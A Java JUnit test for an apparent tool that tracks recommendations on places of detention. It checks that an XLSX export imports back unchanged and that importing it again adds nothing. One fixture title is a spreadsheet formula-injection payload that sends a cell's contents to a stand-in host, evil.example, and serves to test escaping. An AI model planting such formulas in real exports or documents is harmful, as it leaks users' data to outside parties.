package org.opcat.followup.command.importing;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.io.InputStream;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.opcat.followup.command.api.Api;
import org.opcat.followup.command.api.Api.Answer;
import org.springframework.beans.factory.annotation.Autowired;

/**
 * The second half of the export round trip: importing/exported-recommendations.xlsx is what
 * query-service's export wrote for its ExportTest story (that test checks the file still matches
 * the export). Imported into a system that has none of its recommendations, it yields the same
 * recommendations, responses, plan and visit (text that the export wrote with a leading quote, so
 * that no spreadsheet runs it as a formula, included); imported again, nothing new.
 */
@ImportingTest
class ExportRoundTripTest {

    private static final ObjectMapper JSON = new ObjectMapper();

    @Autowired
    Api api;

    @Test
    void anExportImportedIntoAnotherSystemYieldsTheSameRecommendations() throws Exception {
        byte[] exported;
        try (InputStream in = getClass().getResourceAsStream("/importing/exported-recommendations.xlsx")) {
            exported = in.readAllBytes();
        }
        Answer imported = Uploads.xlsx(api.as("admin"), "createMissing=true", exported);
        assertThat(imported.status()).as(imported.body()).isEqualTo(200);
        assertThat(imported.json().get("rows").toString())
                .isEqualTo("{\"recommendations\":2,\"responses\":1,\"action-plans\":2,\"follow-up-visits\":1}");

        JsonNode r1 = issued("2026/查访-1/建议-1");
        assertThat(r1.get("title").asText()).isEqualTo("单独监禁不得超过15天");
        assertThat(r1.get("text").asText()).isEqualTo("国家预防机制建议：单独监禁不得超过连续15天，并记录每一次使用。\n第二段，含逗号,和\"引号\"。");
        assertThat(r1.get("language").asText()).isEqualTo("zh");
        assertThat(r1.get("issuedOn").asText()).isEqualTo("2026-01-10");
        assertThat(r1.get("source").toString()).isEqualTo("{\"kind\":\"VISIT_REPORT\",\"documentReference\":\"查访报告 2026/V-1\"}");
        assertThat(names(r1.get("addresseeAuthorityIds"))).containsExactly("监狱管理局", "司法部");
        assertThat(name(r1.get("placeId").asText())).isEqualTo("第一监狱");
        assertThat(r1.get("themes").toString()).isEqualTo("[\"单独监禁\",\"医疗\"]");
        assertThat(r1.get("scope").asText()).isEqualTo("PLACE_SPECIFIC");
        assertThat(r1.get("priority").asText()).isEqualTo("URGENT");
        assertThat(r1.get("standards").toString()).isEqualTo("[\"《纳尔逊·曼德拉规则》第44条\",\"Istanbul Protocol\"]");
        assertThat(r1.get("responseDueOn").asText()).isEqualTo("2026-03-01");
        assertThat(r1.get("confidential").asBoolean()).isFalse();

        JsonNode r2 = issued("2025/T-2/R-1");
        assertThat(r2.get("confidential").asBoolean()).isTrue();
        assertThat(r2.get("placeId").isNull()).isTrue();
        assertThat(r2.get("source").toString()).isEqualTo("{\"kind\":\"THEMATIC_REPORT\",\"documentReference\":null}");
        // Written with a leading quote so that no spreadsheet runs them; imported as recorded.
        assertThat(r2.get("title").asText()).isEqualTo("=HYPERLINK(\"https://evil.example/?d=\"&B5,\"End the use of restraint beds\")");
        assertThat(r2.get("text").asText()).isEqualTo("'=A1 is how a spreadsheet shows a formula as text. Restraint beds should be removed.");
        assertThat(r2.get("standards").toString()).isEqualTo("[\"@SPT guidance on restraint\"]");

        String id = r1.get("recommendationId").asText();
        JsonNode response = entry(id, "AuthorityResponseRecorded");
        assertThat(response.get("position").asText()).isEqualTo("PARTIALLY_ACCEPTED");
        assertThat(response.get("text").asText()).isEqualTo("我局部分接受该建议。");
        assertThat(response.get("documentReference").asText()).isEqualTo("复函〔2026〕7号");
        JsonNode plan = entry(id, "ActionPlanFiled");
        assertThat(plan.get("actionPlanId").asText()).as("the plan keeps its id").isEqualTo("e3000000-0000-0000-0000-000000000001");
        assertThat(plan.get("measures").toString()).isEqualTo("[{\"description\":\"修订管理规定\",\"responsibleUnit\":\"法规处\","
                + "\"targetDate\":\"2026-05-01\"},{\"description\":\"开展全员培训\",\"responsibleUnit\":\"培训中心\",\"targetDate\":\"2026-09-30\"}]");
        JsonNode visit = entry(id, "FollowUpVisitRecorded");
        assertThat(visit.get("assessedStatus").asText()).isEqualTo("IN_PROGRESS");
        assertThat(name(visit.get("placeId").asText())).isEqualTo("第一监狱");

        long after = api.storedEvents();
        assertThat(Uploads.xlsx(api, "", exported).status()).isEqualTo(200);
        assertThat(api.storedEvents()).isEqualTo(after);
    }

    private JsonNode issued(String reference) throws Exception {
        return JSON.readTree(api.jdbc().queryForObject("SELECT convert_from(payload, 'UTF8') FROM events.domain_event_entry "
                + "WHERE payloadType LIKE '%.RecommendationIssued' AND convert_from(payload, 'UTF8')::json ->> 'reference' = ?",
                String.class, reference));
    }

    private JsonNode entry(String recommendationId, String type) throws Exception {
        return JSON.readTree(api.jdbc().queryForObject("SELECT convert_from(payload, 'UTF8') FROM events.domain_event_entry "
                + "WHERE aggregateIdentifier = ? AND payloadType LIKE ?", String.class, recommendationId, "%." + type));
    }

    private List<String> names(JsonNode ids) {
        return java.util.stream.StreamSupport.stream(ids.spliterator(), false).map(id -> name(id.asText())).toList();
    }

    private String name(String id) {
        return api.jdbc().queryForObject("SELECT convert_from(payload, 'UTF8')::json ->> 'name' FROM events.domain_event_entry "
                + "WHERE aggregateIdentifier = ? AND sequenceNumber = 0", String.class, id);
    }
}
